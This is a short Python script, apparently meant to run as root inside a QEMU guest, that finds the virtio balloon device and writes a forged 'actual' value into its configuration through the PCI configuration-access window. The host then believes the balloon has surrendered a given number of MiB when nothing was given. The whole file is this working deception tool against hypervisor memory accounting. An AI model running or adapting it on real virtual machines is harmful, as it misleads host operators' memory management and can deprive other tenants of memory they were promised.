#!/usr/bin/python3 -IS
"""forge-actual MIB: make QEMU believe that the balloon holds MIB, and give nothing.

Root's way to the four bytes `actual` in the balloon's device configuration, with the driver bound and
running: the PCI capability VIRTIO_PCI_CAP_PCI_CFG is a window from PCI configuration space into the
device's registers [virtio 1.2, 4.1.4.9]. The driver writes the truth again when it moves next.
"""

import os
import struct
import sys
from pathlib import Path

BALLOON = 5  # virtio device type
DEVICE_CFG, PCI_CFG = 4, 5  # cfg_type of the capabilities
ACTUAL = 4  # offset in struct virtio_balloon_config
PAGES_PER_MIB = 256


def main() -> None:
    """Find the balloon's PCI function and write through its window."""
    device = next(
        one
        for one in Path("/sys/bus/virtio/devices").iterdir()
        if int((one / "device").read_text(), 16) == BALLOON
    )
    config = os.open(device.resolve().parent / "config", os.O_RDWR)
    capabilities: dict[int, int] = {}
    at = os.pread(config, 1, 0x34)[0]
    while at:
        kind, following, _, cfg_type = os.pread(config, 4, at)
        if kind == 0x09:
            capabilities[cfg_type] = at
        at = following
    bar = os.pread(config, 1, capabilities[DEVICE_CFG] + 4)
    (offset,) = struct.unpack("<I", os.pread(config, 4, capabilities[DEVICE_CFG] + 8))
    window = capabilities[PCI_CFG]
    os.pwrite(config, bar, window + 4)
    for value, where in (
        (offset + ACTUAL, 8),
        (4, 12),
        (int(sys.argv[1]) * PAGES_PER_MIB, 16),
    ):
        os.pwrite(config, struct.pack("<I", value), window + where)


main()
